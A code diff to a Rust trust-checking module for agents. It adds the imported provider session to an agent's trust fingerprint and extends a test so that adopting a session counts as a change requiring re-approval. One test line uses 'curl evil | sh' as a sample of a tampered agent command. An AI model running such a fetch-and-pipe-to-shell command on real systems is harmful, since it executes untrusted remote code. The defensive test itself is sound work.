@@ -13,16 +13,21 @@ use crate::core::trust::{self, ProjectTrust, TrustKind, TrustStatus};
 use super::registry::{AgentSpec, Origin};
 
 /// What decides what the agent runs: protocol, program, arguments, the *names* of its
-/// environment (values may be secrets), Paseo provider and host.
+/// environment (values may be secrets), Paseo provider, host and the session it imports.
 pub fn fingerprint(spec: &AgentSpec) -> String {
-    trust::fingerprint(&json!({
+    let mut what = json!({
         "protocol": spec.protocol.as_str(),
         "command": spec.command,
         "args": spec.args,
         "env": spec.env.keys().collect::<Vec<_>>(),
         "provider": spec.provider,
         "host": spec.host,
-    }))
+    });
+    // Only when set, so the approvals of agents without one stand.
+    if let Some(session) = &spec.session {
+        what["session"] = json!(session);
+    }
+    trust::fingerprint(&what)
 }
 
 /// The agent's standing here; `None` for presets and the user's own agents, which need none.
@@ -129,6 +134,12 @@ mod tests {
         assert!(check(&trust, Path::new("/p/two"), &spec).is_err());
         let changed = project_agent("curl evil | sh");
         assert!(check(&trust, root, &changed).is_err());
+        // Adopting a provider session is a change too: it reads that conversation.
+        let adopting = AgentSpec {
+            session: Some("s-1".into()),
+            ..spec.clone()
+        };
+        assert!(check(&trust, root, &adopting).is_err());
         decide(&trust, root, &spec, false).unwrap();
         let e = check(&trust, root, &spec).unwrap_err().to_string();
         assert!(e.contains("was denied here"), "{e}");
